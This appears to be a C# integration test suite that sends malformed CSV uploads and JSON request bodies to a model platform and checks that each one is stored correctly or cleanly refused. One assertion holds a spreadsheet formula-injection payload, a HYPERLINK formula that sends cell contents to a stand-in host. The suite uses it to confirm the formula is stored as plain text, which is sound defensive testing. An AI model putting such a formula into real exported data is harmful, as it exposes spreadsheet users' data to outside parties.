using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Text.Json.Nodes;
using Xunit.Abstractions;

namespace ModelPlatform.IntegrationTests;

/// <summary>
/// The hostile-file corpus (tests/corpus, described in its README) sent to the running platform: each upload is stored
/// with the handling the README documents, or refused with a 400 that names its line and leaves nothing behind; each
/// request body is answered, or refused as a 4xx, never with a 5xx or a stack trace.
/// </summary>
public class HostileFileTests(PlatformFixture platform, ITestOutputHelper output) : PlatformTest(platform)
{
    private static readonly string Corpus = Path.Combine(AppContext.BaseDirectory, "corpus");

    /// <summary>What the corpus README promises for each upload: stored (with its separator and first column) or refused.</summary>
    public static TheoryData<string, string?, string> Uploads => new()
    {
        // file, separator when stored (null when refused), the first column's name or the refusal's words
        { "tab-separated.tsv", "\t", "sepal_length" },
        { "semicolon-separated.csv", ";", "sepal_length" },
        { "pipe-separated.csv", "|", "sepal_length" },
        { "semicolon-with-decimal-commas.csv", ";", "a" },
        { "utf8-bom.csv", ",", "sepal_length" },
        { "utf16le-bom.csv", ",", "sepal_length" },
        { "utf16be-bom.csv", ",", "sepal_length" },
        { "quoted-newlines-and-quotes.csv", ",", "id" },
        { "crlf-line-endings.csv", ",", "sepal_length" },
        { "no-final-newline.csv", ",", "sepal_length" },
        { "emoji-and-right-to-left.csv", ",", "name" },
        { "formula-cells.csv", ",", "name" },
        { "control-characters.csv", ",", "a" },
        { "png-then-binary.csv", null, "Line 1: the file is not text" },
        { "gzip-of-a-csv.csv", null, "Line 1: the file is not text" },
        { "zip-archive.csv", null, "Line 1: the file is not text" },
        { "utf16le-without-bom.csv", null, "Line 1: a NUL character" },
        { "latin1-accents.csv", null, "Line 2: the file is not text" },
        { "nul-in-a-cell.csv", null, "Line 3: a NUL character" },
        { "unclosed-quote.csv", null, "Line 2: a quoted field opens here and is never closed" },
        { "ragged-rows.csv", null, "Line 3: expected 3 fields" },
        { "extra-field.csv", null, "Line 2: expected 3 fields" },
        { "duplicate-header.csv", null, "Line 1: the column name 'a' appears more than once" },
        { "empty-header-name.csv", null, "Line 1: header field 2 is empty" },
        { "header-only.csv", null, "no data rows" },
        { "empty.csv", null, "The CSV is empty" },
        { "bom-only.csv", null, "The CSV is empty" },
        { "blank-lines-only.csv", null, "The CSV is empty" },
        { "colon-separated.csv", null, "Line 1: the header is one column" },
        { "long-header-name.csv", null, "Line 1: the name of column 1" },
        { "too-many-columns.csv", null, "Line 1: the header has 1,001 columns" },
        { "html-error-page.csv", null, "Line 1: the file starts with '<'" },
        { "json-instead-of-csv.csv", null, "Line 1" },
    };

    [Theory]
    [MemberData(nameof(Uploads))]
    public async Task EachHostileUploadIsStoredAsDocumentedOrRefusedNamingItsLineWithNothingStored(
        string file, string? separator, string expected)
    {
        var dataset = PlatformSteps.UniqueName("corpus");

        var timer = Stopwatch.StartNew();
        using var response = await UploadAsync(dataset, file);
        output.WriteLine($"{file}: {(int)response.StatusCode} in {timer.Elapsed.TotalMilliseconds:F0} ms");

        if (separator is not null)
        {
            var version = await response.AssertJsonAsync(HttpStatusCode.Created);
            Assert.Equal(separator, version["delimiter"]!.GetValue<string>());
            Assert.Equal(expected, version["columns"]![0]!["name"]!.GetValue<string>());
            return;
        }

        var problem = await response.AssertJsonAsync(HttpStatusCode.BadRequest);
        Assert.Contains(expected, problem["detail"]!.GetValue<string>());
        await Platform.Feature.GetAsync($"/datasets/{dataset}").AssertStatusAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task TheDocumentedHandlingKeepsWhatTheFileSaid()
    {
        // UTF-16 is decoded, a quoted newline and doubled quotes are kept, a formula is stored as the text it is.
        Assert.Equal("5.1", await FirstCellAsync("utf16be-bom.csv", "sepal_length"));
        Assert.Equal("great\nproduct, \"really\"", await FirstCellAsync("quoted-newlines-and-quotes.csv", "review"));
        Assert.Equal("=HYPERLINK(\"http://x.example/?q=\"&A1)", await FirstCellAsync("formula-cells.csv", "name"));
        Assert.Equal("👍 good", await FirstCellAsync("emoji-and-right-to-left.csv", "note"));
        // Decimal commas are not numbers in the invariant culture, so the column is a category, not misread numbers.
        Assert.Equal("1,5", await FirstCellAsync("semicolon-with-decimal-commas.csv", "a"));
    }

    [Fact]
    public async Task EveryHostileRequestBodyIsAnsweredOrRefusedAsBadInputNeverWithAServerError()
    {
        var model = await Platform.ProductionIrisAsync();
        // The first prediction loads the model; the times printed below are then the bodies' own.
        using (var warmUp = new ByteArrayContent(await File.ReadAllBytesAsync(Path.Combine(Corpus, "requests", "valid-predict.json"))))
        {
            warmUp.Headers.ContentType = new MediaTypeHeaderValue("application/json");
            await Platform.Inference.PostAsync($"/models/{model}/predict", warmUp).AssertJsonAsync();
        }

        var failures = new List<string>();
        foreach (var path in Directory.GetFiles(Path.Combine(Corpus, "requests")).Order())
        {
            var body = await File.ReadAllBytesAsync(path);
            foreach (var route in new[] { $"/models/{model}/predict", $"/v2/models/{model}/infer" })
            {
                using var content = new ByteArrayContent(body);
                content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
                var timer = Stopwatch.StartNew();
                using var response = await Platform.Inference.PostAsync(route, content);
                var answer = await response.Content.ReadAsStringAsync();
                var name = $"{Path.GetFileName(path)} to {route}";
                output.WriteLine($"{name}: {(int)response.StatusCode} in {timer.Elapsed.TotalMilliseconds:F0} ms");

                var expected = Path.GetFileName(path) switch
                {
                    "valid-predict.json" when route.EndsWith("/predict", StringComparison.Ordinal) => HttpStatusCode.OK,
                    "valid-infer.json" when route.EndsWith("/infer", StringComparison.Ordinal) => HttpStatusCode.OK,
                    _ => (HttpStatusCode?)null,
                };
                if (expected is { } ok ? response.StatusCode != ok : (int)response.StatusCode is < 400 or >= 500)
                {
                    failures.Add($"{name}: {(int)response.StatusCode} {answer}");
                }
                else if (answer.Contains("   at ", StringComparison.Ordinal) || answer.Contains("Exception", StringComparison.Ordinal))
                {
                    failures.Add($"{name}: the answer shows the service's internals: {answer}");
                }
                else if (response.StatusCode != HttpStatusCode.OK && !SaysWhy(answer))
                {
                    failures.Add($"{name}: a refusal that does not say why: {answer}");
                }
            }
        }

        Assert.True(failures.Count == 0, string.Join("\n", failures));
    }

    /// <summary>Sends the corpus upload <paramref name="file"/> as the next version of <paramref name="dataset"/>.</summary>
    private async Task<HttpResponseMessage> UploadAsync(string dataset, string file)
    {
        using var content = new ByteArrayContent(await File.ReadAllBytesAsync(Path.Combine(Corpus, "uploads", file)));
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        return await Platform.Feature.PostAsync($"/datasets/{dataset}/versions", content);
    }

    /// <summary>Problem details with a detail or errors, or the Open Inference Protocol's <c>{"error"}</c>.</summary>
    private static bool SaysWhy(string answer) =>
        JsonNode.Parse(answer) is JsonObject json && (json["detail"] ?? json["errors"] ?? json["error"]) is not null;

    private async Task<string> FirstCellAsync(string file, string column)
    {
        var dataset = PlatformSteps.UniqueName("corpus");
        await UploadAsync(dataset, file).AssertJsonAsync(HttpStatusCode.Created);
        var page = await Platform.Feature.GetAsync($"/datasets/{dataset}/versions/1/rows?limit=1").AssertJsonAsync();
        return page["rows"]![0]![column]!.ToString();
    }
}
